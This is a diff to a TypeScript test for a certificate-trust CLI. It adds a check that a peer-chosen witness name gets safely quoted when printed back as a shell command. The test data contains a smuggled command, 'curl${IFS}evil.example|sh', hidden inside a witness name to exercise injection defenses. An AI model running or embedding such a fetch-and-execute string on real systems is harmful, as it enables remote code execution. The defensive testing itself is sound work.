@@ -241,6 +241,18 @@ describe('a node whose policy needs the other state and a neutral witness', () =
       certex(words`trust approve --config ${BY.configFile} --state BY --witness ${key} --as ${as}`)
     expect((await approve('Anna')).stderr).toContain('another person must')
     expect(await log.doubt()).toBeDefined()
+
+    // A peer names its witnesses as it likes; the line for the second person is one command all the same.
+    const hostile = 'uz.example/w;curl${IFS}evil.example|sh'
+    await log.contradict({ state: '', name: hostile, keyId }, 999n, at)
+    const about = ['--config', BY.configFile, '--witness']
+    const line = await certex(['log', 'set-aside', ...about, hostile, '--as', 'Anna'])
+    const full = key.replace(name, hostile)
+    expect(line.stdout).toContain(`--state BY --witness '${full}'`)
+    expect(line.stdout).toContain(`the claim of “${full}” to have`)
+    const boris = ['--state', 'BY', '--as', 'Boris']
+    expect(await certex(['trust', 'approve', ...about, full, ...boris])).toMatchObject({ code: 0 })
+
     const question = { kind: 'witness', state: 'BY', subject: proposals[0]!.subject }
     expect((await authority.post('/v1/admin/trust-approvals', question)).status).toBe(201)
     await eventually('the log is signed again', async () => (await log.doubt()) === undefined)
